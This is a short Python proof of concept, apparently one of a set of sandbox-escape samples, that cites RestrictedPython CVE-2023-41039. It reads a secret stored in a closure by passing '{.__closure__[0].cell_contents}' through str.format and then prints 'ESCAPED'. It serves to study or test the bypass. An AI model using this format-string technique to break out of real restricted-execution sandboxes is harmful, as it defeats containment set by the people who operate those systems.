# technique: a format string prints the cell
# goal: closure
# source: RestrictedPython, CVE-2023-41039
import random


def vault():
    secret = random.getrandbits(64)
    return lambda guess: type(guess) is int and guess == secret


check = vault()
found = int('{.__closure__[0].cell_contents}'.format(check))
if check(found):
    print('ESCAPED', found)
